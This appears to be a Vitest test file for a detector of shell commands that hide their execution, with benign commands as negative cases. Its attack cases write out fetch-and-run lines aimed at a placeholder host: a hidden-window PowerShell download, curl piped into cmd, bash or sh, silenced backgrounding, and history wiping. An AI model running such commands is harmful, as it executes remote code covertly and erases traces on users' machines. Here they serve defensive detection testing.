import { expect, test } from 'vitest'
import { commandOf, hits } from '../testing.ts'
import detector from './command-hidden.ts'

const titles = (command: string) => hits(detector, commandOf(command)).map(({ title }) => title)

test.each([
  ['the window', 'powershell -w h -c "iwr https://a.invalid/x -outf x"', 'window'],
  ['the console', 'conhost --headless cmd /c dir', 'window'],
  ['a small window', 'cmd /c start /min curl https://a.invalid/x ^| cmd', 'window'],
  ['in the background', '(curl -s https://a.invalid/x | bash) >/dev/null 2>&1 &', 'silent'],
  ['traces', 'curl https://a.invalid/x | sh; history -c', 'traces'],
])('attack: %s', (_, command, signal) => {
  expect(titles(command)).toContain(detector.signals[signal]?.title)
})

test.each([
  ['nohup ./server &'],
  ['make > /dev/null 2>&1'],
  ['history -c'],
  ['start /min notepad.exe'],
  ['npm start &'],
])('innocent: %s', (command) => {
  expect(titles(command)).toEqual([])
})
